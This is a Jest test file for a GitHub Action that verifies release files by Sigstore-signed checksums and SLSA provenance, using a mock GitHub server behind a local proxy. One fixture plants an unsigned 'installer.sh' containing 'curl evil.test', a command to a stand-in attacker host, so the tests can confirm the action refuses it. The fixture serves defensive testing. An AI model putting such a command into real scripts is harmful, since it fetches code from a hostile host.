// The built program where GitHub is asked: through a proxy that leads GitHub's names to a server on this machine, as a runner behind a proxy asks it.

import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import { runAction, type Ended } from '../support/built.ts';
import { GithubDesk } from '../support/github-engine.ts';
import type { Given } from '../support/inputs.ts';
import { aGithubIdentity, aStatement, byGenerator, slsaPredicate } from '../support/virtual-sigstore.ts';

const REPO = 'natrontech/pmg-exporter';
const FILES = { 'pmg_exporter-1.2.3-py3-none-any.whl': Buffer.from('a wheel'), 'pmg_exporter-1.2.3.tar.gz': Buffer.from('a source distribution') } as const;
const APP = Buffer.from('artifact');
const hex = (bytes: Uint8Array): string => createHash('sha256').update(bytes).digest('hex');

let desk: GithubDesk;
beforeAll(async () => {
  desk = await GithubDesk.open();
  const { predicate, predicateType, workflow } = byGenerator('generic', { repo: REPO });
  const subjects = Object.entries(FILES).map(([name, bytes]) => ({ name: `dist/${name}`, bytes }));
  const built = await desk.sigstore.sign({ statement: aStatement({ subjects, predicateType, predicate, type: 'https://in-toto.io/Statement/v0.1' }) }, aGithubIdentity(workflow));
  const list = Buffer.from(Object.entries(FILES).map(([name, bytes]) => `${hex(bytes)}  ${name}\n`).join(''));
  const signed = await desk.sigstore.sign({ message: list }, aGithubIdentity({ repo: REPO, ref: 'refs/tags/v1.2.3' }));
  const carried = { 'checksums.txt': list, 'checksums.txt.sigstore.json': JSON.stringify(signed.bundle), 'multiple.intoto.jsonl': JSON.stringify(built.bundle) };
  const repository = desk.github.repository(REPO);
  repository.release('v1.2.3', { ...FILES, ...carried });
  // The same with one file more, that nobody built.
  repository.release('v1.2.4', { ...FILES, ...carried, 'installer.sh': 'curl evil.test' });
  desk.write('app.tar.gz', APP);
  desk.write('other.tar.gz', 'other');
  desk.write('authority.pem', desk.github.authority);
  const attestation = await desk.sigstore.sign({ statement: aStatement({ subjects: [{ name: 'app.tar.gz', bytes: APP }], predicate: slsaPredicate({}) }) }, aGithubIdentity({}));
  desk.github.repository('acme/app').attest(attestation);
});
afterAll(() => desk.close());

function act(given: Given): Promise<Ended> {
  return runAction(desk.folder, { 'trusted-root': 'root.json', ...given }, { env: { HTTPS_PROXY: `http://127.0.0.1:${desk.github.proxyPort}`, NODE_EXTRA_CA_CERTS: desk.path('authority.pem') } });
}

describe('the built action', () => {
  it('verifies a release by its signed checksums, and keeps its files', async () => {
    const { exit, stdout, outputs } = await act({ release: 'v1.2.3', repo: REPO, require: 'signature', 'source-ref': 'refs/tags/{tag}', download: 'listed' });
    expect({ exit, stdout }).toMatchObject({ exit: 0 });
    expect(outputs).toMatchObject({ outcome: 'passed', verified: 'true', 'release-tag': 'v1.2.3', version: '1.2.3' });
    expect(fs.readdirSync(desk.path('listed')).toSorted()).toEqual(Object.keys(FILES).toSorted());
  });

  it('verifies the same by the provenance of slsa-github-generator, which repo alone lets sign', async () => {
    const { exit, stdout, outputs } = await act({ release: `${REPO}@v1.2.3`, repo: REPO, 'source-ref': 'refs/tags/v1.2.3', download: 'built' });
    expect({ exit, stdout }).toMatchObject({ exit: 0 });
    expect(outputs).toMatchObject({ outcome: 'passed', 'release-tag': 'v1.2.3' });
    for (const [name, bytes] of Object.entries(FILES)) expect(fs.readFileSync(desk.path(`built/${name}`))).toEqual(bytes);
  });

  it.each<[string, Given, string]>([
    ['with a file that nobody vouches for', { release: 'v1.2.4', repo: REPO }, 'EVIDENCE_REJECTED'],
    ['of another tag than it was built from', { release: 'v1.2.3', repo: REPO, 'source-ref': 'refs/tags/v1.2.4' }, 'CLAIM_MISMATCH'],
  ])('refuses a release %s, and keeps nothing of it', async (_what, given, code) => {
    const { exit, outputs, stdout } = await act({ ...given, download: 'refused' });
    expect({ exit, outputs }).toMatchObject({ exit: 1, outputs: { outcome: 'failed', verified: 'false', 'release-tag': '' } });
    expect(stdout).toContain(code);
    expect(fs.existsSync(desk.path('refused'))).toBe(false);
  });

  it('verifies a file by what GitHub keeps, as gh does, and refuses another', async () => {
    const passed = await act({ artifact: 'app.tar.gz', repo: 'acme/app', 'source-ref': 'refs/tags/v1.2.3' });
    expect([passed.exit, passed.outputs?.['outcome'], passed.outputs?.['signer']]).toEqual([0, 'passed', 'acme/app/.github/workflows/release.yml@refs/tags/v1.2.3']);
    const refused = await act({ artifact: 'other.tar.gz', repo: 'acme/app' });
    expect([refused.exit, refused.outputs?.['outcome'], refused.stdout.includes('EVIDENCE_NONE')]).toEqual([1, 'failed', true]);
  });
});
